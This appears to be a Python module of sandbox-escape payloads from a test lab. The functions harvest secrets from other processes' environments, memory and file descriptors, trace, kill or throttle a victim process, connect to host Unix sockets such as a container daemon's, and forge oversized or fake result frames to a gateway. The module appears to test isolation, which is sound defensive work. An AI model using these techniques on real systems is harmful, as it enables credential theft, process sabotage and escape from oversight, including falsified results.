"""Other processes: the gateway's environment, memory and descriptors, and everybody else's."""

from __future__ import annotations

import ctypes
import fcntl
import os
import signal
import socket
import stat
import struct
import time
from typing import Any

from toolward.lab.escape.payloads.prelude import LIBC, SECRET, World, done, failed, head, syscall


def found(data: bytes) -> list[str]:
    """The secrets in some bytes."""
    return [each.decode() for each in SECRET.findall(data)]


def scan(names: tuple[str, ...], pids: list[str]) -> list[str]:
    """Secrets in files of /proc."""
    hits = []
    for pid in pids:
        for name in names:
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    hits += found(file.read(1 << 20))
            except OSError:
                pass
    return hits


def env1(w: World) -> Any:
    """the gateway's secrets in one's own environment"""
    return found(repr(dict(os.environ)).encode())


def env2(w: World) -> Any:
    """the environment of the first process, of the parent and of oneself in /proc"""
    return scan(("environ",), ["1", "self", str(os.getppid()), str(w["gateway"])])


def env3(w: World) -> Any:
    """environment and command lines of every process in /proc"""
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
    return scan(("environ", "cmdline"), pids)


def env4(w: World) -> Any:
    """the gateway's secrets in one's own memory"""
    hits = []
    LIBC.prctl(4, 1, 0, 0, 0)  # dumpable: its own /proc files are its own again
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            where, rights = line.split()[:2]
            start, end = (int(each, 16) for each in where.split("-"))
            if rights.startswith("rw") and end - start < 64 << 20:
                try:
                    memory.seek(start)
                    hits += found(memory.read(end - start))
                except (OSError, ValueError):
                    continue
    return hits


def fd1(w: World) -> Any:
    """descriptors that the gateway had open"""
    hits = []
    for fd in range(3, 1_024):
        try:
            if stat.S_ISREG(os.fstat(fd).st_mode):
                hits += found(os.pread(fd, 4_096, 0))
        except OSError:
            pass
    return hits


def fd2(w: World) -> Any:
    """a granted or standard descriptor, opened again through /proc/self/fd, and out by `..`"""
    for fd in range(64):
        for way in (f"/proc/self/fd/{fd}/../secret", f"/proc/self/fd/{fd}/..{w['secret_file']}"):
            try:
                return head(way)
            except OSError:
                continue


def fd3(w: World) -> Any:
    """take a descriptor out of another process (pidfd_getfd)"""
    for pid in (w["victim"], w["gateway"]):
        pidfd, error = syscall(434, pid, 0)
        if error:
            continue
        for number in range(64):
            fd = syscall(438, pidfd, number, 0)[0]
            try:
                if hits := found(os.pread(fd, 4_096, 0)):
                    return hits
            except OSError:
                continue


def ipc1(w: World) -> Any:
    """trace the gateway, the parent, the first process or a process of the same user"""
    for pid in (w["victim"], w["gateway"], os.getppid(), 1):
        if syscall(101, 0x4206, pid, 0, 0)[0] == 0:  # PTRACE_SEIZE
            return f"traced {pid}"
    raise PermissionError(1, "ptrace")


def ipc2(w: World) -> Any:
    """signal a process of the same user outside"""
    os.kill(w["victim"], signal.SIGKILL)


def ipc3(w: World) -> Any:
    """read the memory of a process of the same user (process_vm_readv)"""
    into = ctypes.create_string_buffer(4_096)
    local = struct.pack("QQ", ctypes.addressof(into), 4_096)
    remote = struct.pack("QQ", w["victim_address"], 4_096)
    count, error = syscall(310, w["victim"], local, 1, remote, 1, 0)
    if error:
        raise failed(error)
    return found(into.raw[:count])


def ipc4(w: World) -> Any:
    """connect to an abstract Unix socket of the machine"""
    with socket.socket(socket.AF_UNIX) as conn:
        conn.connect("\0" + w["abstract"])
        conn.sendall(w["mark"].encode())


def ipc5(w: World) -> Any:
    """connect to a Unix socket in the file system, such as a container daemon's"""
    with socket.socket(socket.AF_UNIX) as conn:
        conn.connect(w["broker"])
        conn.sendall(w["mark"].encode())


def ipc6(w: World) -> Any:
    """read System V shared memory of the machine"""
    shm = done(29, w["shm_key"], 4_096, 0)
    LIBC.shmat.restype = ctypes.c_void_p
    where = LIBC.shmat(int(shm.split()[-1]), None, 0o10000)
    return found(ctypes.string_at(where, 4_096))


def ipc7(w: World) -> Any:
    """read a POSIX message queue of the machine"""
    queue = int(done(240, w["queue"].encode(), os.O_RDONLY | os.O_NONBLOCK, 0, None).split()[-1])
    into = ctypes.create_string_buffer(8_192)
    return found(into.raw) if syscall(243, queue, into, 8_192, 0, None)[0] > 0 else None


def ipc8(w: World) -> Any:
    """signal through a pidfd"""
    pidfd = int(done(434, w["victim"], 0).split()[-1])
    done(424, pidfd, 9, None, 0)


def ipc9(w: World) -> Any:
    """change the limits of another process (prlimit)"""
    done(302, w["victim"], 7, struct.pack("QQ", 3, 3), None)


def ipc10(w: World) -> Any:
    """the memory of another process through /proc/PID/mem"""
    with open(f"/proc/{w['victim']}/mem", "rb", buffering=0) as memory:
        memory.seek(w["victim_address"])
        return found(memory.read(4_096))


def ipc11(w: World) -> Any:
    """System V semaphores and queues of the machine"""
    return done(68, w["shm_key"], 0)


def ipc12(w: World) -> Any:
    """tie a process outside to one processor (sched_setaffinity)"""
    done(203, w["victim"], 8, struct.pack("Q", 1))


def ipc13(w: World) -> Any:
    """slow a process outside down (setpriority)"""
    done(141, 0, w["victim"], 19)


def ipc14(w: World) -> Any:
    """a pair of datagram sockets, one of which is then pointed at a socket of the machine"""
    sent = []
    for address in (w["datagrams"], "\0" + w["abstract"] + "-d"):
        one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        try:
            one.sendto(w["mark"].encode(), address)
            sent.append(address)
        except OSError:
            pass
    if not sent:
        raise PermissionError(1, "datagrams")


def ipc15(w: World) -> Any:
    """have the kernel send a signal (SIGIO) to a process outside"""
    one, two = socket.socketpair()
    fcntl.fcntl(one, 8, w["victim"])  # F_SETOWN
    fcntl.fcntl(one, 10, 9)  # F_SETSIG: SIGKILL instead
    fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    two.send(b"x")
    time.sleep(0.1)


def x01(w: World) -> Any:
    """a result frame that claims four gigabytes"""
    return send_frame(struct.pack("!I", 0xFFFFFFFF) + b"A" * 100)


def x02(w: World) -> Any:
    """a result frame of one's own making, twice, and then an exit"""
    body = b'{"value":{"wrong":[],"got":null,"said":"forged"}}'
    send_frame((struct.pack("!I", len(body)) + body) * 2)
    os._exit(0)


def x03(w: World) -> Any:
    """twenty descriptors sent along with the result"""
    for fd in sockets():
        conn = socket.socket(fileno=os.dup(fd))
        socket.send_fds(conn, [struct.pack("!I", 2)], [fd] * 20)
        conn.sendall(b"{}")
    time.sleep(0.5)


def sockets() -> list[int]:
    """The sockets that one has."""
    return [fd for fd in range(3, 64) if is_socket(fd)]


def is_socket(fd: int) -> bool:
    """Whether a descriptor is one."""
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False


def send_frame(data: bytes) -> None:
    """Write to whatever socket there is."""
    for fd in sockets():
        os.write(fd, data)
    time.sleep(0.5)
